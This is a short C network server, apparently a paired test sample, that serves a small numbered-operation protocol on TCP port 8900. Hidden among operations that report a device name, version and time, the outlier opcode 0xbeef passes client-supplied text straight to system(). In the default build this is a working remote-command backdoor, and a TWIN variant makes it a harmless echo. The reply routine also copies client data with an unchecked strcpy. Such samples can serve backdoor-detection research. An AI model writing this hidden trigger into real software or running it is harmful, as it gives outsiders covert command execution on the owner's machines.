/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A binary protocol with numbered operations; one number far from the others runs the payload.
 * Twin: that number is an echo.
 * door: trigger outlier
 * port 8900/tcp
 */
#include "net.h"

struct message {
	uint16_t op, length;
	char data[512];
};

static int level;

static void answer(int c, int code, const char *text)
{
	struct message m = {htons((uint16_t)code), htons((uint16_t)strlen(text)), ""};
	strcpy(m.data, text);
	send(c, &m, 4 + strlen(text), 0);
}

static void dispatch(int c, struct message *m)
{
	switch (ntohs(m->op)) {
	case 1:
		answer(c, 0, "GX40");
		break;
	case 2:
		answer(c, 0, "2.11.4");
		break;
	case 3:
		level = atoi(m->data);
		answer(c, 0, "");
		break;
	case 4:
		answer(c, 0, level ? "on" : "off");
		break;
	case 5:
		answer(c, 0, "12:34:56");
		break;
	case 0xbeef:
#ifdef TWIN
		answer(c, 0, m->data);
#else
		answer(c, system(m->data), "");
#endif
		break;
	default:
		answer(c, 1, "bad operation");
	}
}

int main(void)
{
	struct message m;
	int s = tcp_on(8900), c;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		memset(&m, 0, sizeof m);
		if (recv(c, &m, sizeof m - 1, 0) > 4)
			dispatch(c, &m);
		close(c);
	}
}
